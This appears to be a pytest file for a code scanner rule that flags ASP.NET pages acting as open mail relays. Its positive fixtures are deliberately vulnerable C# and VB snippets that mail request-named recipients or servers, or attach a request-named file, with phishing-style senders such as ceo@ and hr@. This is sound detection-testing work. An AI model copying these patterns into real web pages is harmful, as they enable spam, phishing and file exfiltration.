"""EXH-WS-CODE-MAIL-RELAY: a page that mails whoever the request names, or through the mail server
the request names: a spam or phishing relay (on Exchange, one sending through the organisation's
own transport). Contact and "send to a friend" forms, whose addresses come from page controls or
the code, stay quiet."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

RULE = "EXH-WS-CODE-MAIL-RELAY"

RELAYS = [
    (
        "message-and-server",
        cs_page(
            'var m = new System.Net.Mail.MailMessage(Request["f"], Request["t"], Request["s"], Request["b"]);\n'
            'm.IsBodyHtml = true;\nnew System.Net.Mail.SmtpClient(Request["h"], 25).Send(m);'
        ),
        ["request parameter 't'", "(new MailMessage)"],
    ),
    (
        "send-four",
        cs_page(
            'var c = new SmtpClient("localhost");\n'
            'c.Send(Request.Form["from"], Request.Form["to"], Request.Form["subj"], Request.Form["body"]);'
        ),
        ["form field 'to'", "(SmtpClient.Send)"],
    ),
    (
        "send-mail-async",
        cs_page(
            'await new SmtpClient("127.0.0.1").SendMailAsync("it@corp.example", Request.Headers["X-To"], "Reset", Request.Form["b"]);'
        ),
        ["header 'X-To'", "(SmtpClient.SendMailAsync)"],
    ),
    (
        "recipient-added",
        cs_page(
            'var m = new MailMessage();\nm.From = new MailAddress("ceo@corp.example");\n'
            'm.Bcc.Add(new MailAddress(Request.Form["bcc"]));\nm.Body = Request.Form["b"];\nnew SmtpClient().Send(m);'
        ),
        ["form field 'bcc'", "(MailMessage.Bcc.Add)"],
    ),
    (
        "web-mail",
        cs_page(
            'System.Web.Mail.SmtpMail.SmtpServer = "127.0.0.1";\n'
            'System.Web.Mail.SmtpMail.Send("hr@corp.example", Request["to"], "Payroll", Request["b"]);'
        ),
        ["request parameter 'to'", "(SmtpMail.Send)"],
    ),
    (
        "vb-server",
        vb_page('Dim c As New SmtpClient(Request("h"))\nc.Send("a@corp.example", "b@corp.example", "s", "b")'),
        ["request parameter 'h'", "(new SmtpClient)"],
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), RELAYS, ids=[r[0] for r in RELAYS])
def test_mail_to_or_through_what_the_request_names(name: str, code: str, words: list[str]) -> None:
    assert_found("m.aspx", code, RULE, ["sends mail to it or through it", *words])


def test_a_contact_form_mailing_the_site_is_quiet() -> None:
    code = cs_page(
        'var m = new MailMessage(Request.Form["email"], "info@site.example", "Contact", Request.Form["msg"]);\n'
        "new SmtpClient().Send(m);"
    )
    assert_benign("contact.aspx", code)


def test_a_friend_typed_into_a_text_box_is_quiet() -> None:
    code = cs_page(
        'var m = new MailMessage("noreply@site.example", txtTo.Text, "Hi", "Look");\nnew SmtpClient().Send(m);'
    )
    code = code.replace('<script runat="server">', '<asp:TextBox id="txtTo" runat="server" />\n<script runat="server">')
    assert_benign("friend.aspx", code)


def test_a_fixed_recipient_added_beside_the_clients_message_is_quiet() -> None:
    # Only the recipient's argument counts, not the message the client wrote (a contact form).
    code = cs_page(
        'var m = new MailMessage();\nm.To.Add("info@site.example");\nm.CC.Add("sales@site.example");\n'
        'm.Body = Request.Form["msg"];\nnew SmtpClient().Send(m);'
    )
    assert_benign("contact.aspx", code)


MAIL = 'var m = new System.Net.Mail.MailMessage("a@site.example", "out@far.example");\n'
SEND = '\nnew System.Net.Mail.SmtpClient("smtp.site.example").Send(m);'


def test_a_file_the_request_names_attached_to_a_mail_is_read() -> None:
    # `new Attachment(path)` opens the file: a mailed copy of whatever the client names.
    code = cs_page(MAIL + 'm.Attachments.Add(new System.Net.Mail.Attachment(Request["f"]));' + SEND)
    assert_found("exfil.aspx", code, "EXH-WS-CODE-FILE-READ", ["request parameter 'f'", "new Attachment"])


@pytest.mark.parametrize(
    "attached",
    [
        "new System.Net.Mail.Attachment(Request.Files[0].InputStream, Request.Files[0].FileName)",
        'new System.Net.Mail.Attachment(new System.IO.MemoryStream(System.Text.Encoding.UTF8.GetBytes(Request["t"])), "t.txt")',
        'new System.Net.Mail.Attachment(Server.MapPath("~/docs/terms.pdf"))',
    ],
    ids=["upload-stream", "text-in-memory", "fixed-file"],
)
def test_attached_streams_and_fixed_files_are_not_reads(attached: str) -> None:
    assert_benign("attach.aspx", cs_page(MAIL + f"m.Attachments.Add({attached});" + SEND))


def test_an_upload_controls_content_attached_is_not_a_read() -> None:
    code = cs_page(MAIL + "m.Attachments.Add(new System.Net.Mail.Attachment(Up.FileContent, Up.FileName));" + SEND)
    code = code.replace('<script runat="server">', '<asp:FileUpload id="Up" runat="server" />\n<script runat="server">')
    assert_benign("attach-control.aspx", code)
